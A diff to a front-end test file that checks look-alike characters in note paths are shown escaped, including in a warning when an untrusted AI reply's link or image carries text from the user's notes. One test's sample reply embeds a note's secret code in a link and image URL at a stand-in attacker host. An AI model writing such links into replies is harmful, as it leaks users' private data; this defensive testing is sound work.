@@ -7,6 +7,8 @@
 import { cleanup, render, screen, within } from "@testing-library/react";
 import { afterEach, describe, expect, it } from "vitest";
 import { FileList } from "../../src/sandbox/page/FileList";
+import { renderUntrustedReply } from "../../src/ui/untrusted/render-reply";
+import { renderMarkdownInto } from "../../src/sandbox/page/markdown";
 import { EventScript } from "./support/events";
 import { renderThread } from "./support/render";
 
@@ -14,6 +16,8 @@ afterEach(cleanup);
 
 const NBSP_PATH = "Projects/Garden\u00a0shed.md";
 const NBSP_SHOWN = "Projects/Garden\\u00A0shed.md";
+const ZWSP_PATH = "Projects/Garden shed\u200b.md";
+const ZWSP_SHOWN = "Projects/Garden shed\\u200B.md";
 
 function editScript(path: string): EventScript {
 	const s = new EventScript().user("m1", "Paint the door").assistant("a1", "");
@@ -65,5 +69,31 @@ describe("paths with look-alike characters in the pane", () => {
 		expect(within(list).getByRole("button", { name: "Garden\\u00A0shed" })).toBeTruthy();
 		expect(list.textContent).toContain("Pro\\u00A0jects");
 		expect(list.textContent).not.toContain("\u00a0");
+	});
+
+	it("show a no-break space and a zero-width space escaped on a user message's pinned notes", async () => {
+		const s = new EventScript();
+		s.add({ type: "user_message", messageId: "m1", content: "Paint the door", pinned: [{ path: NBSP_PATH }, { path: ZWSP_PATH }] });
+		await renderThread(s);
+		const pins = screen.getByRole("list", { name: "Pinned notes" });
+		expect(within(pins).getAllByRole("listitem").map((li) => li.textContent)).toEqual([NBSP_SHOWN, ZWSP_SHOWN]);
+		expect(pins.textContent).not.toMatch(/[\u00a0\u200b]/);
+	});
+
+	it("show a no-break space and a zero-width space escaped where a reply's link or image names the notes it carries text from", async () => {
+		const pane = document.body.appendChild(document.createElement("div"));
+		const host = { renderMarkdown: (el: HTMLElement, markdown: string) => renderMarkdownInto(el, markdown, () => undefined) };
+		const reads = [
+			{ path: NBSP_PATH, text: "The shed code is tulip-Harbor-9917" },
+			{ path: ZWSP_PATH, text: "Also tulip-Harbor-9917 here" },
+		];
+		renderUntrustedReply(host, pane, "See [the shed](https://attacker.example/?d=tulip-Harbor-9917).\n\n![](https://attacker.example/p.png?d=tulip-Harbor-9917)", { reads, open: () => undefined });
+		const link = await within(pane).findByRole("link", { name: "the shed" });
+		link.click();
+		const ask = within(pane).getByRole("group", { name: "Open this link?" });
+		expect(ask.textContent).toContain(`This link contains text from ${NBSP_SHOWN} and ${ZWSP_SHOWN}.`);
+		const image = within(pane).getByRole("group", { name: "Image from attacker.example" });
+		expect(image.textContent).toContain(`contains text from ${NBSP_SHOWN} and ${ZWSP_SHOWN}`);
+		expect(pane.textContent).not.toMatch(/[\u00a0\u200b]/);
 	});
 });
